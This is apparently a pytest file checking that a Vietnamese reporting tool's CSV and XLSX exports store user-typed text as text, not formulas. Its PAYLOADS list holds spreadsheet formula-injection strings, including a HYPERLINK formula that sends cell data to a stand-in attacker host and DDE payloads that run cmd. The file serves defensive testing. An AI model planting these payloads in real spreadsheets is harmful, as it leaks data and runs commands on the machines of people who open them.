"""Formula injection: names, units and codes typed by users come out of every CSV/XLSX export
as text, never as a formula (`chitieu evaluate` writers, the web export, the report XLSX)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from chitieu.cellsafety import csv_text, is_risky
from chitieu.evaluate import evaluate_many
from chitieu.model import Period, Result, Target
from chitieu.reports.demo import HEADER
from chitieu.reports.model import build_report
from chitieu.reports.render import render
from chitieu.tables.view import build_table
from chitieu.tables.writers import render_csv, render_xlsx

PAYLOADS = [
    '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
YEAR = Period.year_of(2024)


def _evaluations() -> list:  # type: ignore[type-arg]
    pairs = [
        (
            Target(payload, value=Decimal(10), unit=payload, code=f"=X{i}"),
            Result(value=Decimal(12), unit=payload),
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    return evaluate_many(pairs)


def test_risky_text_is_recognised_but_numbers_are_not() -> None:
    assert all(is_risky(p) for p in PAYLOADS)
    assert not is_risky("-3,4") and not is_risky("+12") and not is_risky("Tổng thu")
    assert csv_text("-3,4") == "-3,4" and csv_text(7) == 7
    assert csv_text("=1+1") == "'=1+1"


def test_the_csv_writer_prefixes_every_formula_like_cell() -> None:
    data = render_csv(build_table(_evaluations(), YEAR)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data), delimiter=";"))[1:]
    cells = [cell for row in rows for cell in row]
    assert len(rows) == len(PAYLOADS)
    for cell in cells:
        assert not is_risky(cell), cell
    names = {row[2] for row in rows}
    assert names == {"'" + p for p in PAYLOADS}  # shown as typed, behind the apostrophe


def _text_cells_are_not_formulas(data: bytes, allowed: set[str] = frozenset()) -> int:  # type: ignore[assignment]
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in PAYLOADS:
                    seen += 1
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                if cell.data_type == "f":
                    # Only the writer's own formulas: cell ratios and a SUM.
                    assert cell.value.split("(")[0] in allowed or "/" in cell.value, cell.value
    return seen


def test_the_xlsx_writer_stores_formula_like_text_as_text() -> None:
    data = render_xlsx(build_table(_evaluations(), YEAR))
    assert _text_cells_are_not_formulas(data) >= 2 * len(PAYLOADS)  # name and unit columns


def test_the_report_workbook_keeps_its_own_formulas_and_neutralises_user_text() -> None:
    report = build_report(HEADER, YEAR, _evaluations())
    data = render(report, "xlsx")
    assert _text_cells_are_not_formulas(data, allowed={"=SUM"}) >= len(PAYLOADS)
    book = openpyxl.load_workbook(io.BytesIO(data))
    formulas = [c.value for row in book["Phụ lục"].iter_rows() for c in row if c.data_type == "f"]
    assert formulas, "the report's own ratio formulas must survive"


@pytest.mark.parametrize("payload", PAYLOADS[:2])
def test_csv_text_prefix_is_idempotent_on_already_safe_text(payload: str) -> None:
    once = csv_text(payload)
    assert csv_text(once) == once
